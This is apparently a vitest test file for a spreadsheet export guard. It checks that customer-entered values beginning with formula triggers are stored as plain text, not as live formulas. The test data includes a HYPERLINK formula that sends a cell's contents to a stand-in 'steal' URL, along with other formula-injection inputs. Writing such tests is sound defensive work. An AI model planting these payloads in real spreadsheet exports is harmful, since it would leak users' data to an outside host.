import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { buildWorkbook } from '../../../src-main/documents/xlsx';
import { spreadsheetText } from '../../../src-shared/rules/spreadsheet-safety';

const hostile = [
  '=HYPERLINK("http://example.com/steal?x="&A1,"Click")',
  '+SUM(1,2)',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];

describe('text a spreadsheet would run as a formula', () => {
  it('is kept as text with a leading apostrophe; ordinary text is left alone', () => {
    for (const value of hostile) expect(spreadsheetText(value)).toBe(`'${value}`);
    for (const value of ['Edna Baker', '07700 900123', 'A = B', '', ' =1', "O'Brien"])
      expect(spreadsheetText(value)).toBe(value);
  });

  it('never reaches a workbook as a formula, whatever a customer typed', async () => {
    const bytes = await buildWorkbook([
      {
        name: 'Register',
        columns: [
          { header: 'Name', value: (r: { name: string }) => r.name },
          { header: 'Count', format: 'integer', value: () => -3 },
        ],
        rows: [...hostile, 'Edna Baker'].map((name) => ({ name })),
      },
    ]);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as never);
    const sheet = workbook.worksheets[0]!;
    hostile.forEach((value, i) => {
      const cell = sheet.getRow(i + 2).getCell(1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      // XML reads a carriage return back as a line feed; the apostrophe leads either way.
      expect(cell.value).toBe(`'${value}`.replace(/\r/g, '\n'));
    });
    expect(sheet.getRow(8).getCell(1).value).toBe('Edna Baker');
    // Numbers stay numbers, negative ones included.
    expect(sheet.getRow(2).getCell(2).value).toBe(-3);
  });
});
